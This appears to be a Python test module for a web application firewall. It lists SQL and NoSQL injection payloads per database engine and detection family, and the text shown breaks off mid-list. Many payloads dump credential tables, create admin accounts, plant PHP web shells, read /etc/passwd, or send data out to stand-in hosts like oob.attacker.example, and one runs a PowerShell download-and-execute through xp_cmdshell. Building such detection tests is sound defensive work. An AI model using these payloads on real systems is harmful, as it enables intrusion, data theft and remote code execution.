"""Blind set "hundredthirtyfirst": SQL injection in every dialect that speaks it, one list per detection title,
with benign requests that carry the same product names, keywords and syntax innocently.

The angle: dialects. For each family the same attack is written for each database engine that accepts it, beyond
MySQL: MariaDB, PostgreSQL, Microsoft SQL Server, Oracle, SQLite, IBM Db2, Informix, SAP HANA, Snowflake,
ClickHouse, CockroachDB, Sybase ASE and Microsoft Access (Jet/ACE), each in its own comment syntax (`#`, `-- `,
`/* */` nested or not, Informix `{ }`, Snowflake `//`, ClickHouse `#!`, Access's NUL byte), its own quoting
(dollar quotes, E'' and U&'' strings, N'' strings, x'' and 0x literals), concatenation (`||`, `+`, `&`,
CONCAT), delay (SLEEP, BENCHMARK, pg_sleep, WAITFOR, DBMS_PIPE, SYSTEM$WAIT, sleepEachRow, heavy cross joins),
error channel (EXTRACTVALUE, CAST, CONVERT, CTXSYS, RAISE_ERROR, force_error) and catalogue (information_schema,
pg_catalog, sys.objects, ALL_TABLES, sqlite_schema, SYSCAT, systables, SYS.TABLES, system.tables, crdb_internal,
MSysObjects). NoSQL stores come in their own query languages (MongoDB operators and $where JavaScript, CouchDB
Mango selectors, Neo4j Cypher). Each list's comments name the engine the payloads below them are written for.

Families and sub-families (one per detection title; CRS 3.3.4 and the 4.x titles as remembered):
  sqli: libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
    time-based-blind, error-based, out-of-band, information-schema-catalog-probing, mysql-comment-obfuscation,
    function-based-probing, sql-authentication-bypass, nosql-injection, hex-char-encoding,
    stored-procedure-xp-cmdshell, having-group-by-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. MongoDB operator documents go as whole
JSON bodies, and the bracket forms (`user[$ne]=x`, as Express's qs and PHP parse them) as raw form bodies or
parameter names. Payloads with a control character (NUL, tab, vertical tab, newline) never go in a header.

Authorship and independence: written for this repository from general knowledge of each engine's SQL dialect and
the detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredthirtyfirst"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]

# --- libinjection-sqli: short token sequences, the shape of an injected fragment in each dialect ----------------
LIBINJECTION: list[Entry] = [
    # MySQL / MariaDB: || as OR, XOR, DIV, arithmetic inside a string
    "1'||1#",
    "1' XOR 1-- -",
    "-1 div 1 or 1",
    "1'-0-'",
    "1 and 1 = 1 limit 1",
    "1' and '1",
    "') or 1-- -",
    # PostgreSQL: :: casts, dollar quoting, || concatenation
    "1' and 1::int=1--",
    "1 or $$a$$=$$a$$--",
    "1'||''||'",
    # Microsoft SQL Server: ; terminator, + concatenation
    "1' and 1=1;--",
    "1'+''+'",
    "1 or 1=1 --",
    # Oracle: DUAL
    "1' and 1=(select 1 from dual)--",
    "1'||(select 'a' from dual)||'",
    # SQLite: IS as equality
    "1' and sqlite_version()>0--",
    "1' or 1 is 1--",
    # IBM Db2: SYSIBM.SYSDUMMY1
    "1' and 1=(select 1 from sysibm.sysdummy1)--",
    # Informix: SELECT FIRST n
    "1' and 1=(select first 1 1 from systables)--",
    # SAP HANA: DUMMY
    "1' and 1=(select 1 from dummy)--",
    # Snowflake: IFF
    "1' and iff(1=1,true,false)--",
    # ClickHouse: isNotNull()
    "1' and isNotNull(version())--",
    # CockroachDB: INT8 casts
    "1' and 1=1::INT8--",
    # Sybase ASE: @@version
    "1' and @@version like '%Adaptive%'--",
    # Microsoft Access (Jet/ACE): no comments, the trailing quote is balanced instead
    "1' and 1=1 and ''='",
    "1 and 1=1 and 1",
    # Informix / Db2 numeric context
    "0 or 1=1",
    "1)) or ((1=1",
]

# --- sql-tautology-boolean: always-true (and always-false) conditions in each dialect ----------------------------
TAUTOLOGY: list[Entry] = [
    # MySQL / MariaDB
    "' or 'a'='a",
    "' OR 2>1-- -",
    "' or true-- -",
    "\" or \"\"=\"",
    "') or ('x')=('x",
    "' || 1=1#",
    "1 or 1=1",
    "-1 or 2>1",
    "1' and 'a'='a",
    "' and 1=1-- -",
    "' and 1=2-- -",
    # PostgreSQL: boolean literals and casts, the ~ regex operator
    "' or 't'::bool--",
    "' OR 'a' ~ 'a'--",
    "' or 1 is not null--",
    "' or not false--",
    # Microsoft SQL Server: + concatenation, LEN
    "' or 1=1--",
    "' or 'a'+'b'='ab'--",
    "' or len('a')=1--",
    # Oracle: || concatenation, LNNVL
    "' or 'a'||'b'='ab'--",
    "' or lnnvl(1=2)--",
    # SQLite: GLOB
    "' or 'a' glob 'a'--",
    # IBM Db2: FETCH FIRST
    "' or 1=1 fetch first 1 rows only--",
    # SAP HANA
    "' or 1=1 limit 1--",
    # Snowflake: EQUAL_NULL
    "' or equal_null(1,1)--",
    # ClickHouse: equals()
    "' or equals(1,1)--",
    # CockroachDB: IS DISTINCT FROM
    "' or 1 is distinct from 2--",
    # Microsoft Access: IIF, no comment
    "' or iif(1=1,1,0)=1 or ''='",
    # Sybase ASE
    "' or 1=1 or ''='",
    # Informix: TRIM
    "' or trim(' a ')='a'--",
]

# --- sql-comment-sequence: cutting off the rest of the statement with each dialect's comment -------------------
COMMENT: list[Entry] = [
    # MySQL / MariaDB: #, "-- " with its mandatory space, an unterminated /*
    "admin'#",
    "1' -- ",
    "1')#",
    "1'/*",
    "1\"-- -",
    "1'))#",
    "1';#",
    # PostgreSQL: --, nested /* */ comments
    "1'--",
    "1'/* /* */ */--",
    "1');--",
    # Microsoft SQL Server
    "x';--",
    "x'))/*",
    "x';/*",
    # Oracle
    "1' -- comment",
    "1')--",
    # SQLite: an unterminated block comment runs to the end of the input
    "1' /* ",
    "1' --\n",
    # IBM Db2
    "1')) --",
    # Informix: { } comments
    "1' {",
    "1'{x}--",
    # SAP HANA
    "1' AND 1=1 --",
    # Snowflake: // line comments
    "admin'//",
    "1') //",
    # ClickHouse: #! comments
    "1' #!",
    "1' -- x",
    # CockroachDB
    "1'::STRING --",
    # Sybase ASE
    "1'--\t",
    # Microsoft Access: no comment syntax, the NUL byte cuts the statement in the driver
    "admin'\x00",
    "1'\x00",
]

# --- union-select: UNION with each engine's version, user and table sources ------------------------------------
UNION: list[Entry] = [
    # MySQL / MariaDB
    "' union select 1,@@version,3-- -",
    "' union all select null,concat(user,0x3a,authentication_string) from mysql.user#",
    "-1 union select 1,group_concat(user),3 from mysql.user",
    "' union distinct select 1,user()-- -",
    "'union(select(1),(version()))#",
    "' union select null,null,null-- -",
    "1 union select 1,2,3,4,5,6,7",
    # MariaDB 10.5+: JSON_ARRAYAGG
    "' union select 1,json_arrayagg(user) from mysql.user-- -",
    # PostgreSQL
    "' union select null,version(),null--",
    "' union select null,string_agg(usename||':'||passwd,',') from pg_shadow--",
    "' union select null,current_setting('data_directory')--",
    # Microsoft SQL Server
    "' union select null,@@version,null--",
    "' union select name,password_hash from sys.sql_logins--",
    "' union all select top 1 name,null from master..sysdatabases--",
    # Oracle: FROM DUAL, V$VERSION, LISTAGG
    "' union select null,banner from v$version--",
    "' union select username,password from sys.user$--",
    "' union select null,listagg(username,',') within group (order by 1) from all_users--",
    # SQLite
    "' union select 1,sqlite_version(),3--",
    "' union select name,sql from sqlite_master--",
    # IBM Db2
    "' union select null,service_level from sysibmadm.env_inst_info--",
    "' union select 1,current server from sysibm.sysdummy1--",
    # Informix: DBINFO
    "' union select dbinfo('version','full'),1 from systables where tabid=1--",
    # SAP HANA
    "' union select null,version from sys.m_database--",
    # Snowflake
    "' union select current_version(),current_account()--",
    # ClickHouse: UNION ALL only
    "' UNION ALL SELECT name,engine FROM system.tables--",
    # CockroachDB
    "' union select null,crdb_internal.cluster_id()::string--",
    # Sybase ASE
    "' union select name,null from master..syslogins--",
    # Microsoft Access: a FROM is mandatory, MSysObjects is always there
    "' union select 1,name from MSysObjects where ''='",
]

# --- stacked-queries: a second statement after ; (drivers that allow it; PL/SQL blocks in Oracle) --------------
STACKED: list[Entry] = [
    # Microsoft SQL Server
    "'; drop table users--",
    "'; insert into users(name,role) values('eve','admin')--",
    "'; update users set password='x' where name='admin'--",
    "'; shutdown with nowait--",
    "1; declare @v varchar(99) select @v=@@version--",
    "'; alter login sa enable--",
    # PostgreSQL (simple query protocol)
    "'; alter user postgres with password 'pwned';--",
    "1; select pg_terminate_backend(pid) from pg_stat_activity;--",
    "'; create role eve superuser login password 'x';--",
    "'; truncate table users cascade;--",
    # MySQL / MariaDB with multi-statements on (mysqli_multi_query, allowMultiQueries=true)
    "'; set global general_log='ON';#",
    "1; create user 'eve'@'%' identified by 'x';#",
    "'; grant all on *.* to 'eve'@'%';-- -",
    "1; flush privileges;#",
    "'; delete from users where 1;#",
    # SQLite (sqlite3_exec): ATTACH a new database file under the web root
    "'; attach database '/var/www/html/p.php' as p; create table p.t(c text); "
    "insert into p.t values('<?php system($_GET[0]);?>');--",
    "1; PRAGMA writable_schema=1;--",
    "'; drop table if exists sessions;--",
    # Oracle: breaking out into the surrounding anonymous PL/SQL block
    "'); execute immediate 'grant dba to scott'; end;--",
    "';begin execute immediate 'alter user system identified by pwned';end;--",
    # IBM Db2 (CLP / multi-statement batches)
    "'; create table t2 as (select * from syscat.tables) with data;--",
    # Sybase ASE
    "'; exec sp_addlogin 'eve','secret123'--",
    "'; exec sp_role 'grant','sa_role','eve'--",
    # Snowflake with MULTI_STATEMENT_COUNT=0
    "'; grant role accountadmin to user eve;--",
    "'; create stage s url='s3://attacker-bucket/';--",
    # CockroachDB
    "'; create user eve with password 'x'; grant admin to eve;--",
    # SAP HANA
    "'; create user eve password Xx123456789; grant data admin to eve;--",
    # Informix
    "'; grant dba to eve;--",
    # ClickHouse (clients with multiquery)
    "1; DROP TABLE default.users",
]

# --- time-based-blind: each engine's delay ----------------------------------------------------------------------
TIME: list[Entry] = [
    # MySQL / MariaDB: SLEEP, BENCHMARK
    "' and sleep(5)-- -",
    "1 and (select 1 from (select sleep(5))x)",
    "' or benchmark(5000000,md5('a'))#",
    "'xor(if(now()=sysdate(),sleep(5),0))xor'",
    "' and if(1=1,sleep(5),0)-- -",
    "1 and benchmark(9999999,sha1(1))",
    "' and (select sleep(5) from dual where database() like '%')#",
    # PostgreSQL: pg_sleep, pg_sleep_for
    "'; select pg_sleep(5)--",
    "' and 1=(select 1 from pg_sleep(5))--",
    "'||pg_sleep(5)--",
    "' and pg_sleep_for('5 seconds') is null--",
    "1;select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--",
    # Microsoft SQL Server: WAITFOR
    "'; waitfor delay '0:0:5'--",
    "1 if (1=1) waitfor delay '00:00:05'--",
    "'; waitfor time '23:59:59'--",
    # Oracle: DBMS_PIPE.RECEIVE_MESSAGE, heavy joins
    "' and 1=dbms_pipe.receive_message('a',5)--",
    "' and 1=(case when 1=1 then dbms_pipe.receive_message(('x'),10) else 1 end)--",
    "' and (select count(*) from all_objects a,all_objects b,all_objects c)>0--",
    # SQLite: RANDOMBLOB work
    "' and 1=like('ABCDEFG',upper(hex(randomblob(300000000/2))))--",
    "' and 1=randomblob(500000000)--",
    # IBM Db2: heavy join, DBMS_ALERT.SLEEP
    "' and (select count(*) from sysibm.systables a,sysibm.systables b,sysibm.systables c)>0--",
    "'; call dbms_alert.sleep(5);--",
    # Informix
    "' and 1=(select count(*) from systables a,systables b,systables c)--",
    # SAP HANA
    "' and (select count(*) from sys.objects a,sys.objects b,sys.objects c)>0--",
    # Snowflake: SYSTEM$WAIT
    "' and system$wait(5) is not null--",
    # ClickHouse: sleep (3 s at most), sleepEachRow
    "' and sleep(3)=0--",
    "' and sleepEachRow(1)=0--",
    # CockroachDB: pg_sleep returns a BOOL here
    "' and pg_sleep(5)--",
    # Sybase ASE
    "1; waitfor delay '00:00:05'",
    # Microsoft Access: a cross join of system tables
    "' and (select count(*) from MSysAccessObjects t1,MSysAccessObjects t2,MSysAccessObjects t3)>0 and ''='",
]

# --- error-based: each engine's error message carrying the data -------------------------------------------------
ERROR: list[Entry] = [
    # MySQL / MariaDB: XPath, EXP overflow, duplicate key, GTID, geometry, JSON
    "' and extractvalue(1,concat(0x7e,version()))-- -",
    "' and updatexml(1,concat(0x7e,user()),1)#",
    "' and exp(~(select * from (select user())x))-- -",
    "' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x "
    "from information_schema.tables group by x)y)-- -",
    "' and gtid_subset(concat(0x7e,@@version),1)#",
    "' and st_latfromgeohash(version())#",
    "' and geometrycollection((select * from (select * from (select user())a)b))#",
    "' and json_keys((select convert((select @@hostname) using utf8)))-- -",
    # PostgreSQL: CAST to a number
    "' and 1=cast(version() as int)--",
    "' and 1=(select current_user)::int--",
    "' and cast(chr(126)||(select usename from pg_user limit 1) as numeric)=1--",
    # Microsoft SQL Server: CONVERT, implicit conversion, FOR XML
    "' and 1=convert(int,@@version)--",
    "' and 1=cast(db_name() as int)--",
    "' and @@servername=1--",
    "' and 1=(select name from master..sysdatabases for xml path(''))--",
    # Oracle: CTXSYS, UTL_INADDR, XMLType, ORDSYS
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "' and (select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual) is not null--",
    "' and 1=ordsys.ord_dicom.getmappingxpath((select banner from v$version where rownum=1),user,user)--",
    # SQLite: integer overflow
    "' and abs(-9223372036854775808)--",
    # IBM Db2: CAST, RAISE_ERROR
    "' and 1=cast((select current user from sysibm.sysdummy1) as int)--",
    "' and raise_error('70001',(select current server from sysibm.sysdummy1)) is null--",
    # Informix: :: cast of DBINFO
    "' and 1=(select dbinfo('dbname')::int from systables where tabid=1)--",
    # SAP HANA: TO_INT
    "' and 1=to_int((select current_user from dummy))--",
    # Snowflake: TO_NUMBER
    "' and 1=to_number(current_user())--",
    # ClickHouse: toUInt8 of a string
    "' and toUInt8(currentUser())=1--",
    # CockroachDB: crdb_internal.force_error
    "' and crdb_internal.force_error('XX000',current_user) is null--",
    # Sybase ASE: CONVERT
    "' and 1=convert(int,suser_name())--",
]

# --- out-of-band: files, DNS, HTTP and SMB channels out of each engine -----------------------------------------
OOB: list[Entry] = [
    # MySQL / MariaDB: LOAD_FILE (a UNC path on Windows), INTO OUTFILE / DUMPFILE
    r"' union select load_file(concat('\\\\',version(),'.oob.attacker.example\\a'))-- -",
    "' and load_file('/etc/passwd')#",
    "' union select '<?php system($_GET[0]);?>' into outfile '/var/www/html/s.php'-- -",
    "' union select 1,2 into dumpfile '/usr/lib/mysql/plugin/x.so'#",
    "' into outfile '/tmp/u.txt' fields terminated by ','#",
    # PostgreSQL: COPY TO PROGRAM, dblink, pg_read_file, lo_import
    "'; copy (select '') to program 'nslookup oob.attacker.example'--",
    "'; select dblink_connect('host=oob.attacker.example user=a password=b dbname=c');--",
    "' and (select pg_read_file('/etc/passwd')) is not null--",
    "'; copy users to '/tmp/u.csv';--",
    "' union select null,pg_read_binary_file('/etc/passwd')::text--",
    "'; select lo_import('/etc/passwd');--",
    # Microsoft SQL Server: xp_dirtree / xp_fileexist SMB, OPENROWSET, BULK INSERT, XE files
    r"'; exec master..xp_dirtree '\\oob.attacker.example\a'--",
    r"'; exec master..xp_fileexist '\\oob.attacker.example\a'--",
    "'; select * from openrowset('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','select 1')--",
    r"'; bulk insert t from '\\oob.attacker.example\s\x.txt'--",
    r"' and (select 1 from fn_xe_file_target_read_file('\\oob.attacker.example\s\*.xel',null,null,null)) is null--",
    # Oracle: UTL_HTTP, UTL_INADDR, HTTPURITYPE, DBMS_LDAP, XXE through XMLType
    "' and utl_http.request('http://oob.attacker.example/'||user) is not null--",
    "' and utl_inaddr.get_host_address(user||'.oob.attacker.example') is not null--",
    "' and httpuritype('http://oob.attacker.example/'||user).getclob() is not null--",
    "' and dbms_ldap.init(user||'.oob.attacker.example',389) is not null--",
    "' and extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://oob.attacker.example/\">%x;]>'),'/l') is null--",
    # SQLite on Windows: load_extension from a UNC share
    r"' and load_extension('\\oob.attacker.example\x\y.dll')--",
    # IBM Db2: SYSTOOLS.HTTPGETCLOB
    "' and (select systools.httpgetclob('http://oob.attacker.example/'||current user,'') "
    "from sysibm.sysdummy1) is not null--",
    # Informix: FILETOCLOB
    "' and 1=(select filetoclob('/etc/passwd','server') from systables where tabid=1)--",
    # Snowflake: COPY INTO an external location
    "'; copy into 's3://attacker-bucket/x' from users credentials=(aws_key_id='a' aws_secret_key='b');--",
    # ClickHouse: url() and file() table functions
    "' union all select * from url('http://oob.attacker.example/x','CSV','a String')--",
    "' union all select * from file('/etc/passwd','LineAsString')--",
    # CockroachDB: EXPORT INTO CSV
    "'; export into csv 'http://oob.attacker.example/x' from table users;--",
    # Microsoft Access: an external database IN a UNC path
    r"' union select 1 from msysobjects in '\\oob.attacker.example\s\x.mdb' where ''='",
]

# --- information-schema-catalog-probing: each engine's catalogue ------------------------------------------------
CATALOG: list[Entry] = [
    # MySQL / MariaDB: information_schema, and the InnoDB / sys tables when it is filtered
    "' union select table_name,null from information_schema.tables-- -",
    "' and (select count(*) from information_schema.columns where column_name like '%pass%')>0#",
    "' union select schema_name,2 from information_schema.schemata#",
    "' union select database_name,table_name from mysql.innodb_table_stats#",
    "' union select table_schema,table_name from sys.schema_table_statistics#",
    "' union select 1,group_concat(column_name) from information_schema.columns where table_name='users'-- -",
    # PostgreSQL: pg_catalog
    "' union select null,tablename from pg_catalog.pg_tables--",
    "' union select null,relname from pg_class where relkind='r'--",
    "' union select null,nspname from pg_namespace--",
    "' and (select rolsuper from pg_roles where rolname=current_user)--",
    # Microsoft SQL Server: sys.objects, sysobjects, sys.columns
    "' union select name,null from sys.objects where type='U'--",
    "' union select name,null from sysobjects where xtype='U'--",
    "' union select null,column_name from information_schema.columns where table_name='users'--",
    "' and 1=(select count(*) from sys.columns where name like '%pass%')--",
    # Oracle: ALL_TABLES, USER_TAB_COLUMNS, ALL_USERS, V$DATABASE
    "' union select table_name,null from all_tables--",
    "' union select column_name,null from user_tab_columns where table_name='USERS'--",
    "' union select username,null from all_users--",
    "' union select name,null from v$database--",
    # SQLite: sqlite_schema (3.33+), pragma table-valued functions
    "' union select name,null from sqlite_schema where type='table'--",
    "' union select name,type from pragma_table_info('users')--",
    # IBM Db2: SYSCAT, SYSIBM
    "' union select tabname,tabschema from syscat.tables--",
    "' union select name,creator from sysibm.systables where creator=current schema--",
    # Informix: systables, user tables above tabid 99
    "' union select tabname,owner from systables where tabid>99--",
    # SAP HANA: SYS.TABLES
    "' union select table_name,schema_name from sys.tables--",
    # Snowflake: ACCOUNT_USAGE
    "' union select query_text,user_name from snowflake.account_usage.query_history--",
    # ClickHouse: system.columns
    "' UNION ALL SELECT database,name FROM system.columns--",
    # CockroachDB: crdb_internal
    "' union select database_name,name from crdb_internal.tables--",
    # Sybase ASE: sysobjects type U
    "' union select name,convert(varchar,id) from sysobjects where type='U'--",
    # Microsoft Access: MSysObjects
    "' union select name,type from MSysObjects where Type=1 and Flags=0 and ''='",
]

# --- mysql-comment-obfuscation: executable comments, comments and odd whitespace between keywords ---------------
OBFUSCATION: list[Entry] = [
    # MySQL: /*! */ and /*!NNNNN */ executable comments
    "'/*!union*//*!select*/1,2,3-- -",
    "'/*!50000UnIoN*/ /*!50000SeLeCt*/ 1,user(),3#",
    "-1/*!12345union*//*!12345all*//*!12345select*/1,2,3",
    "'/*!00000and*/1=1#",
    "'/*!32302and*/1=0#",
    "'and/*!40000 1=1*/#",
    "'/*!union*/ /*!all*/ (/*!select*/ 1,2)#",
    "1 /*!and*/ /*!sleep*/(5)",
    "1 and (/*!50001select*/ 1)=1",
    "'/*!50000union*/ distinctrow select 1,2#",
    # MariaDB: its own /*M! */ executable comment
    "' /*M!100100union select 1,@@version*/-- -",
    "' /*M! and 1=1*/#",
    # MySQL 8: an optimizer hint comment after SELECT
    "1 union select /*+ SET_VAR(sql_mode='') */ 1,2#",
    # MySQL: inline and line comments standing in for whitespace
    "1'/**/or/**/1=1#",
    "1'/*foo*/union/*bar*/select/*baz*/1,2#",
    "'union#\nselect 1,2-- -",
    "'union-- x\nselect 1,2#",
    "1' -- x\nunion select 1,2#",
    # MySQL: \N as NULL, no whitespace at all, vertical tab as whitespace
    "-1 union select \\N,version()#",
    "1'and(select 1)=1#",
    "'\x0bunion\x0bselect\x0b1,2#",
    "'union(select(user()),(database()))#",
    # PostgreSQL: comments, nested comments
    "'/**/union/**/select/**/null,version()--",
    "'union/*/**/*/select null,current_user--",
    # Microsoft SQL Server: a /*!*/ is only a comment here; tabs
    "'union/*!*/select null,@@version--",
    "'\tunion\tselect null,system_user--",
    # Oracle
    "'union/**/all/**/select/**/null,user/**/from/**/dual--",
    # SQLite
    "'union/**/select/**/1,sqlite_version()--",
]

# --- function-based-probing: blind extraction with each engine's string functions --------------------------------
FUNCTION: list[Entry] = [
    # MySQL / MariaDB: ASCII, SUBSTRING, MID, ORD, LEFT, STRCMP
    "' and ascii(substring(user(),1,1))>64-- -",
    "' and mid(version(),1,1)='8'#",
    "' and ord(mid(database(),1,1))=100#",
    "' and left(user(),4)='root'#",
    "' and strcmp(left(database(),1),'a')=0#",
    "' and length(concat(user(),database()))>5#",
    "' and substr(@@version,1,1)=5#",
    # PostgreSQL: SUBSTRING FROM FOR, SPLIT_PART
    "' and ascii(substr(current_user,1,1))>100--",
    "' and substring(version() from 1 for 10)='PostgreSQL'--",
    "' and left(current_database(),1)='p'--",
    "' and split_part(version(),' ',2)>'9'--",
    # Microsoft SQL Server: UNICODE, LEN, CHARINDEX
    "' and unicode(substring(system_user,1,1))>64--",
    "' and ascii(substring(db_name(),1,1))=109--",
    "' and len(@@servername)>3--",
    "' and charindex('2019',@@version)>0--",
    # Oracle: SUBSTR, INSTR, LENGTH
    "' and ascii(substr(user,1,1))>64--",
    "' and (select substr(banner,1,6) from v$version where rownum=1)='Oracle'--",
    "' and length(user)>3--",
    "' and instr(user,'SYS')=1--",
    # SQLite: UNICODE, SUBSTR of the schema SQL
    "' and unicode(substr(sqlite_version(),1,1))=51--",
    "' and substr((select sql from sqlite_master limit 1),1,6)='CREATE'--",
    # IBM Db2
    "' and ascii(substr(current user,1,1))>64--",
    "' and (select substr(service_level,1,3) from sysibmadm.env_inst_info)='DB2'--",
    # SAP HANA: LOCATE
    "' and locate(current_user,'SYS')=1--",
    # Snowflake: STARTSWITH
    "' and startswith(current_role(),'ACCOUNT')--",
    # ClickHouse
    "' and substring(currentUser(),1,1)='d'--",
    # Microsoft Access: ASC, MID, CURRENTUSER
    "' and asc(mid(currentuser(),1,1))>64 and ''='",
    # Sybase ASE
    "' and ascii(substring(suser_name(),1,1))>64--",
    # Informix
    "' and substring(user from 1 for 1)='i'--",
]

# --- sql-authentication-bypass: login fields, for each engine's comment and quoting ------------------------------
AUTH: list[Entry] = [
    # MySQL / MariaDB
    "admin'-- -",
    "admin' #",
    "admin'/*",
    "' or 1=1 limit 1-- -",
    "' or ''='",
    "admin' or '1'='1",
    "') or ('1'='1",
    "admin')-- -",
    "admin\" --",
    "'='",
    "'-'",
    "'*'",
    "'^'",
    "'||'1",
    "' union select 'admin','5f4dcc3b5aa765d61d8327deb882cf99'-- -",
    "admin' and '1'='1",
    "\" or 1=1 -- -",
    # Microsoft SQL Server 2012+ / Oracle 12c+: OFFSET FETCH
    "' or 1=1 offset 0 rows fetch next 1 rows only--",
    "admin';--",
    # Oracle: ROWNUM
    "' or 1=1 and rownum<2--",
    # PostgreSQL / CockroachDB
    "x' or true limit 1--",
    "1' or '1'='1' /*",
    # Microsoft Access: no comment
    "admin' or ''='",
    # Informix: { comment
    "admin'{",
    # Snowflake: // comment
    "admin')//",
    # SQLite
    "' or 'x'='x' --",
    "admin' or 'a' like 'a",
    "' or username is not null or '",
]

# --- nosql-injection: MongoDB operators and $where JavaScript, CouchDB Mango, Neo4j Cypher ---------------------
NOSQL: list[Entry] = [
    # MongoDB behind Express's qs or PHP's array parameters: bracket operators
    ("username[$ne]=x&password[$ne]=x", "form", "rs-raw-body"),
    ("username[$regex]=^adm&password[$gt]=", "param-name", "rs-param-name"),
    ("user[$exists]=true&pass[$exists]=true", "form", "rs-raw-body"),
    ("login[$in][]=admin&login[$in][]=root&password[$nin][]=", "param-name", "rs-raw-body"),
    ("password[$ne]=", "param-name", "rs-param-name"),
    ("email[$regex]=.*&password[$regex]=.*", "form", "rs-raw-body"),
    # MongoDB: operator documents as the JSON body
    ('{"username":{"$ne":null},"password":{"$ne":null}}', "json-body", "rs-json-body"),
    ('{"username":"admin","password":{"$gt":""}}', "json-body", "rs-json-body"),
    ('{"$where":"sleep(5000)||true"}', "json-body", "rs-json-body"),
    ('{"username":{"$regex":"^a"},"password":{"$regex":".*"}}', "json-body", "rs-json-body"),
    ('{"$or":[{},{"a":"a"}]}', "json-body", "rs-json-body"),
    ('{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}', "json-body",
     "rs-json-body"),
    ('{"username":{"$in":["admin","root"]},"password":{"$nin":[""]}}', "json-body", "rs-json-body"),
    ('{"role":{"$not":{"$eq":"user"}}}', "json-body", "rs-json-body"),
    # CouchDB: Mango selectors
    ('{"selector":{"_id":{"$gt":null}}}', "json-body", "rs-json-body"),
    ('{"selector":{"password":{"$regex":"^a"}},"fields":["password"]}', "json-body", "rs-json-body"),
    # MongoDB aggregation pipeline
    ('[{"$lookup":{"from":"users","localField":"x","foreignField":"x","as":"u"}}]', "json-body", "rs-json-body"),
    # MongoDB: a string inside a server-side $where JavaScript expression
    "' || 'a'=='a",
    "'; return true; var x='",
    "1; sleep(5000)",
    "'||this.password.match(/^a.*/)||'",
    "\" || this.role == 'admin' || \"",
    "';sleep(5000);'",
    "' && this.password.length > 0 && 'a'=='a",
    # Neo4j: Cypher
    "' OR 1=1 WITH 1 as a CALL db.labels() YIELD label RETURN label//",
    "a' OR 1=1 LOAD CSV FROM 'http://oob.attacker.example/x' AS y RETURN ''//",
    "' RETURN 1 AS x UNION CALL dbms.components() YIELD name RETURN name AS x//",
]

# --- hex-char-encoding: literals written in hex, CHAR/CHR codes, escapes, per engine -----------------------------
HEX: list[Entry] = [
    # MySQL / MariaDB: 0x, x'', b'', CHAR(), UNHEX
    "' union select 1,0x3c3f7068702073797374656d28245f4745545b305d293b3f3e into outfile '/tmp/s.php'#",
    "' and user()=0x726f6f74406c6f63616c686f7374#",
    "' and database()=char(115,104,111,112)#",
    "' union select unhex('726F6F74'),2#",
    "' and 0x61646d696e=username#",
    "' and x'61'='a'-- -",
    "' and b'1100001'='a'#",
    "' and username=char(0x61,0x64,0x6d,0x69,0x6e)#",
    "' and conv(10,10,36)='a'#",
    "' and load_file(0x2f6574632f706173737764) is not null#",
    # PostgreSQL: CHR, DECODE hex, E'' and U&'' strings, dollar quotes
    "' and current_user=chr(112)||chr(111)||chr(115)||chr(116)||chr(103)||chr(114)||chr(101)||chr(115)--",
    "' and convert_from(decode('706f737467726573','hex'),'UTF8')=current_user--",
    r"' and E'\x61'='a'--",
    r"' and U&'\0061'='a'--",
    "' and current_user=$$postgres$$--",
    # Microsoft SQL Server: a hex varbinary executed, CHAR()+CHAR(), NCHAR
    "';declare @s varchar(99)=0x73656c65637420404076657273696f6e;exec(@s)--",
    "' and system_user=char(115)+char(97)--",
    "' and nchar(97)=N'a'--",
    "'; exec(char(120)+char(112)+char(95)+char(99)+char(109)+char(100)+char(115)+char(104)+char(101)+char(108)"
    "+char(108)+char(32)+char(39)+char(105)+char(100)+char(39))--",
    "' union select null,cast(0x41646d696e as varchar)--",
    # Oracle: CHR, HEXTORAW, RAWTOHEX, UNISTR
    "' and user=chr(83)||chr(89)||chr(83)--",
    "' and utl_raw.cast_to_varchar2(hextoraw('535953'))=user--",
    "' and rawtohex(user)='535953'--",
    r"' and user=unistr('\0053\0059\0053')--",
    # SQLite: blob literals, CHAR()
    "' and x'61646d696e'=username--",
    "' and char(97,100,109,105,110)=username--",
    # IBM Db2: x'' strings
    "' and current user=x'44423241444D494E'--",
    # ClickHouse: unhex
    "' and currentUser()=unhex('64656661756C74')--",
    # Snowflake: HEX_DECODE_STRING
    "' and current_user()=hex_decode_string('41444D494E')--",
    # SAP HANA: HEXTOBIN, BINTOSTR
    "' and current_user=bintostr(hextobin('53595354454D'))--",
    # Microsoft Access: CHR and & concatenation
    "' and chr(65)&chr(66)='AB' and ''='",
]

# --- stored-procedure-xp-cmdshell: command execution and privileged procedures per engine ------------------------
STORED: list[Entry] = [
    # Microsoft SQL Server: xp_cmdshell, OLE automation, registry, external scripts
    "'; exec master..xp_cmdshell 'whoami'--",
    "'; exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure--",
    "'; exec xp_cmdshell 'powershell -nop -c iwr http://203.0.113.9/a.ps1|iex'--",
    "'; declare @o int;exec sp_oacreate 'wscript.shell',@o out;exec sp_oamethod @o,'run',null,"
    "'cmd /c whoami > c:\\inetpub\\wwwroot\\w.txt'--",
